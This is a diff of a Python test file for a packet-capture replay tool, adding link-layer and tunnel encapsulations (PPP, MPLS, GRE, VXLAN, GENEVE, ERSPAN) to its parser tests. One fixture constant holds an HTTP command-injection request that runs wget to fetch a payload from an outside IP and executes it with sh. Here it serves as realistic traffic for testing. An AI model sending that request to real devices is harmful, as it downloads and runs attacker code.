@@ -21,9 +21,13 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from scapy.config import conf
+from scapy.contrib.geneve import GENEVE
+from scapy.contrib.mpls import MPLS
 from scapy.layers.inet import IP, TCP, UDP
 from scapy.layers.inet6 import IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment
-from scapy.layers.l2 import ARP, CookedLinux, CookedLinuxV2, Dot1Q, Ether, Loopback
+from scapy.layers.l2 import ARP, GRE, LLC, SNAP, CookedLinux, CookedLinuxV2, Dot1Q, Dot3, Ether, Loopback
+from scapy.layers.ppp import HDLC, PPP, PPPoE
+from scapy.layers.vxlan import VXLAN
 from scapy.packet import Packet, Raw
 from scapy.utils import wrpcap, wrpcapng
 
@@ -33,6 +37,7 @@ from eudaemon.cli._streams import Conversation, Streams
 
 JAWS = b"GET /shell?cd+/tmp;wget+http://45.9.8.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: x\r\n\r\n"
 Run = Callable[[bytes | Path], tuple[int, list[dict[str, Any]], str]]
+OUTER = IP(src="198.51.100.1", dst="198.51.100.2")
 FRAME = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")
 conf.verb = 0
 
@@ -132,7 +137,59 @@ FRAMES: dict[str, tuple[int, Callable[[Packet], Packet | bytes]]] = {
     "cooked 2": (276, lambda ip: CookedLinuxV2() / ip),
     "raw": (101, lambda ip: ip),
     "loopback": (0, lambda ip: Loopback() / ip),
-}
+    "PPPoE": (1, lambda ip: FRAME / PPPoE(sessionid=9) / PPP() / ip),
+    "MPLS": (1, lambda ip: FRAME / MPLS(label=16, s=0) / MPLS(label=17, s=1) / ip),
+    "802.3": (1, lambda ip: Dot3() / LLC() / SNAP(code=0x86DD if ip.version == 6 else 0x800) / ip),
+    "PPP": (9, lambda ip: PPP() / ip),
+    "PPP like HDLC": (50, lambda ip: HDLC() / PPP() / ip),
+    "PPP with short numbers": (9, lambda ip: (b"\x57" if ip.version == 6 else b"\x21") + bytes(ip)),
+    "Cisco's HDLC": (104, lambda ip: b"\x0f\0" + (b"\x86\xdd" if ip.version == 6 else b"\x08\0") + bytes(ip)),
+    "Broadcom's tag": (281, lambda ip: tagged(FRAME / ip, 12, b"\x20\0\0\x01")),
+    "Broadcom's tag before": (282, lambda ip: b"\x20\0\0\x01" + bytes(FRAME / ip)),
+    "Marvell's tag": (284, lambda ip: tagged(FRAME / ip, 12, b"\x60\x08\0\0")),
+    "Marvell's longer tag": (285, lambda ip: tagged(FRAME / ip, 12, b"\xda\xda\0\0\x60\x08\0\0")),
+    "iptables' log": (239, lambda ip: b"\x02\0\0\0" + logged(1, b"\x08\0\x01", "<") + logged(9, bytes(ip), "<")),
+    "the log of a big-endian machine": (239, lambda ip: b"\x02\0\0\0" + logged(1, b"\x08", ">")
+                                        + logged(9, bytes(ip), ">")),
+    "IP in IP": (101, lambda ip: IP(src="198.51.100.1", dst="198.51.100.2") / ip),
+    "IP in IPv6": (101, lambda ip: IPv6(src="2001:db8::77", dst="2001:db8::78") / ip),
+    "GRE": (101, lambda ip: OUTER / GRE() / ip),
+    "GRE with everything": (101, lambda ip: OUTER / GRE(chksum_present=1, key_present=1, seqnum_present=1, key=9) / ip),
+    "frames in GRE": (101, lambda ip: OUTER / GRE(proto=0x6558) / FRAME / ip),
+    "ERSPAN": (101, lambda ip: OUTER / GRE(proto=0x88BE, seqnum_present=1) / Raw(bytes(8)) / FRAME / ip),
+    "ERSPAN III": (101, lambda ip: OUTER / GRE(proto=0x22EB, seqnum_present=1) / Raw(bytes(12)) / FRAME / ip),
+    "VXLAN": (101, lambda ip: OUTER / UDP(dport=4789) / VXLAN(vni=7) / FRAME / ip),
+    "VXLAN without an extension": (101, lambda ip: OUTER / UDP(dport=8472) / Raw(b"\x08" + bytes(7)) / FRAME / ip),
+    "GENEVE": (101, lambda ip: OUTER / UDP(dport=6081) / GENEVE(vni=7, optionlen=2, options=b"12345678") / FRAME / ip),
+    "four tunnels": (101, lambda ip: OUTER / OUTER / GRE() / OUTER / UDP(dport=4789) / VXLAN() / FRAME / ip),
+}  # fmt: skip
+
+
+def tagged(frame: Packet, at: int, tag: bytes) -> bytes:
+    return bytes(frame)[:at] + tag + bytes(frame)[at:]
+
+
+def logged(kind: int, value: bytes, order: str) -> bytes:
+    return struct.pack(order + "HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)
+
+
+@pytest.mark.parametrize(
+    "left",
+    [
+        OUTER / OUTER / OUTER / OUTER / OUTER / next(iter(tcp(JAWS))),  # one tunnel more
+        OUTER / GRE(version=1, proto=0x880B) / Raw(b"x"),
+        OUTER / GRE(proto=0x6558) / FRAME / ARP(),
+    ],
+)
+def test_a_tunnel_that_is_left_out(left: Packet, replayed: Run) -> None:
+    assert "1 of another protocol than TCP and UDP" in replayed(pcap([left], 101))[2]
+
+
+@pytest.mark.parametrize("said_to", [b"hello VXLAN", b"\x08" + bytes(40), bytes(60), b"\0\0\x65\x58" + bytes(60)])
+@pytest.mark.parametrize("port", [4789, 6081, 80])
+def test_what_is_no_tunnel_at_its_port_is_played(port: int, said_to: bytes) -> None:
+    (conversation,) = read([IP(src="203.0.113.9", dst="192.0.2.1") / UDP(sport=9, dport=port) / Raw(said_to)])
+    assert said(conversation) == said_to
 
 
 @pytest.mark.parametrize("v6", [False, True])
@@ -180,7 +237,7 @@ def test_a_capture_cut_off_anywhere_never_fails(replayed: Run, tmp_path: Path) -
     assert "1 cut off at the end of the file" in replayed(whole[:-3])[2]
 
 
-@given(st.binary(max_size=200), st.sampled_from([1, 101, 113, 276, 0, 9]))
+@given(st.binary(max_size=200), st.sampled_from([1, 101, 113, 276, 0, 9, 104, 239]))
 def test_whatever_is_in_a_packet_never_fails(data: bytes, link: int) -> None:
     Streams().read(Capture(pcap([data], link)).ip())
     version = bytes([0x45 if link % 2 else 0x60])
